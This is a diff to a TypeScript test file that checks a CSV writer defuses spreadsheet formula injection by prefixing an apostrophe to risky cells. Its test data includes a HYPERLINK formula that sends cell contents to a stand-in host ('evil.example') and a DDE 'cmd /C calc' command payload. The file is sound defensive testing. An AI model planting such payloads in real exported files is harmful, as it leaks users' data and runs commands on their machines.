@@ -2,16 +2,24 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvRecord } from './csv.ts';
 
-/** A reader of RFC 4180, for the test. */
-function parseRecord(text: string): string[] {
+/**
+ * The cells as a spreadsheet finds them: a quote counts at the start of a cell only, and what
+ * follows the closing one still belongs to the cell.
+ */
+function parseCells(text: string, separator: string): string[] {
   const cells: string[] = [];
-  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n$)/gy;
-  for (let match = cell.exec(text); match; match = cell.exec(text)) {
-    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
-    if (match[3] !== ',') break;
+  const cell = new RegExp(
+    `(?:"((?:[^"]|"")*)(?:"|$))?([^${separator}\\r\\n]*)(${separator}|\\r\\n?|\\n|$)`,
+    'gy',
+  );
+  while (cell.lastIndex < text.length) {
+    const [, quoted = '', rest = ''] = cell.exec(text)!;
+    cells.push(quoted.replaceAll('""', '"') + rest);
   }
   return cells;
 }
+
+const startsFormula = /^["\s]*[=+\-@＝＋－＠]/u;
 
 describe('a CSV record', () => {
   it('quotes what needs it', () => {
@@ -21,31 +29,69 @@ describe('a CSV record', () => {
   });
 
   it.each([
-    '=1+1',
-    '+15550100199',
-    '-2+3',
-    '@SUM(A1)',
-    '\t=1',
-    '\r=1',
-    ' =1+1',
-    '=HYPERLINK("http://evil.example?"&A1)',
-    '＝1+1',
-  ])('D100 makes no formula of %j', (value) => {
-    expect(parseRecord(csvRecord([value]))).toEqual([`'${value}`]);
+    ['=1+1', "'=1+1"],
+    ['+15550100199', "'+15550100199"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t'=1"],
+    ['\r=1', "'\r'=1"],
+    [' =1+1', "' =1+1"],
+    ['=HYPERLINK("http://evil.example?"&A1)', `'=HYPERLINK("http://evil.example?"&A1)`],
+    ['＝1+1', "'＝1+1"],
+    ["x;=1+cmd|' /C calc'!A0;", "x;'=1+cmd|' /C calc'!A0;"],
+    ['x\t+1', "x\t'+1"],
+    ['x;\u00a0 -1', "x;\u00a0 '-1"],
+    ['x\n@SUM(A1)\r\n-1', "x\n'@SUM(A1)\r\n'-1"],
+    ['x|=1', "x|'=1"],
+    ['x;"=1;""=1;" =1', `x;"'=1;""'=1;" '=1`],
+    ['x;＝1', "x;'＝1"],
+  ])('D100 makes no formula of %j', (value, defused) => {
+    expect(parseCells(csvRecord([value]), ',')).toEqual([defused]);
   });
 
-  it('D100 reads back as it was written, but for the apostrophe', () => {
-    const text = fc.string({
-      unit: fc.constantFrom('"', ',', '\r', '\n', '=', '-', 'a', ' ', 'é'),
-    });
+  it.each([
+    '3 - 4',
+    'a-b; c + d = e | f @ g',
+    'ada+news@example.com; bob@example.com',
+    'Tel. +1 555 010 0199',
+    'yes, +1 more',
+    "two lines\nwell-made, isn't it?",
+  ])('leaves %j as it is', (value) => {
+    expect(parseCells(csvRecord([value]), ',')).toEqual([value]);
+  });
+
+  const values = fc.array(
+    fc.string({
+      unit: fc.constantFrom(...'",;\t|\r\n=+-@＝a é'),
+    }),
+    { minLength: 1 },
+  );
+
+  it('D100 reads back as it was written, but for apostrophes', () => {
     fc.assert(
-      fc.property(fc.array(text, { minLength: 1 }), (values) => {
-        const read = parseRecord(csvRecord(values));
-        expect(read).toHaveLength(values.length);
-        read.forEach((cell, index) => {
-          expect([values[index], `'${values[index]}`]).toContain(cell);
-          expect(cell).not.toMatch(/^\s*[=+\-@]/);
-        });
+      fc.property(values, (written) => {
+        const read = parseCells(csvRecord(written), ',');
+        expect(read.map((cell) => cell.replaceAll("'", ''))).toEqual(written);
+      }),
+    );
+  });
+
+  it.each([',', ';', '\t'])('D100 holds no formula when %j separates', (separator) => {
+    fc.assert(
+      fc.property(fc.array(values), (records) => {
+        const text = records.map(csvRecord).join('');
+        for (const cell of parseCells(text, separator)) expect(cell).not.toMatch(startsFormula);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('D100 holds no formula where quotes count for nothing', () => {
+    fc.assert(
+      fc.property(values, (written) => {
+        for (const cell of csvRecord(written).split(/[;\t|\r\n]/)) {
+          expect(cell).not.toMatch(startsFormula);
+        }
       }),
     );
   });
